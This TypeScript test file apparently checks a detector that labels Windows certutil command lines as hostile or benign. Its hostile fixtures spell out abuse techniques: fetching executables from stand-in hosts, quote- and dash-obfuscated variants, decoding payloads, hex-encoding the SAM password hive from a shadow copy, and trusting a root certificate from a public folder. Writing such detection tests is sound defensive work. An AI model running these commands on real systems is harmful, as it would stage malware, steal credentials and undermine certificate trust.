import { CERTUTIL_MODEL } from "../../../src/attack/programs/certutil.ts";
import { describeReader } from "./labelled.ts";

// Hostile: from recordings in samples/ and from facts of ATT&CK T1105, T1140 and T1003. Benign: what
// those who run a public-key infrastructure do, and the recorded listings of stores.
describeReader(CERTUTIL_MODEL, {
  hostile: [
    [
      "certutil -urlcache -split -f http://example.net/a.exe a.exe",
      "fetches from the address http://example.net/a.exe",
    ],
    [
      "certutil \u2013URLCACHE /f http://198.51.100.7/a.crl a",
      "fetches from the address http://198.51.100.7/a.crl",
    ],
    [
      'certutil -f -ver""ifyctl -split https://raw.githubusercontent.com/r/a.txt',
      "fetches from the address https://raw.githubusercontent.com/r/a.txt",
    ],
    [
      "certutil -URL http://198.51.100.7/a.exe",
      "fetches from the address http://198.51.100.7/a.exe",
    ],
    ["certutil.exe  -decode file.txt c:\\file.exe", "decodes a program"],
    [
      "certutil -f -decodehex C:\\Users\\Public\\a.txt C:\\Windows\\a.bin",
      "decodes what comes from where every user can write",
    ],
    ["certutil.exe  -encode c:\\file.exe file.txt", "encodes a program"],
    [
      'certutil  -f -v -encodehex "\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\System32\\config\\SAM" C:\\Users\\ADMINI~1\\a 2 ',
      "encodes passwords of Windows",
    ],
    [
      "certutil -addstore -f -user ROOT C:\\Users\\Public\\a.cer",
      "trusts a certificate from where every user can write",
    ],
  ],
  benign: [
    "certutil",
    "certutil  -v -enterprise -store -silent NTAuth ",
    "certutil  -v -user -store -silent root ",
    "certutil -urlcache * delete",
    "certutil -urlcache http://198.51.100.7/a.exe delete",
    "certutil -urlcache -f http://crl.example.net/root.crl root.crl",
    "certutil -URL http://pki.contoso.com/a.cer",
    "certutil -verify -urlfetch C:\\Users\\u\\a.cer",
    "certutil -verifyctl -f http://ctldl.windowsupdate.com/a.cab",
    "certutil -decode a.b64 a.cer",
    "certutil -decode C:\\Users\\u\\a.b64 C:\\Users\\u\\a.cer",
    "certutil -encode a.cer a.b64",
    "certutil -hashfile C:\\Users\\u\\a.exe SHA256",
    "certutil -addstore root C:\\Windows\\a.cer",
    "certutil -addstore my C:\\Users\\u\\a.cer",
    "certutil -__proto__ http://198.51.100.7/a.exe",
  ],
});
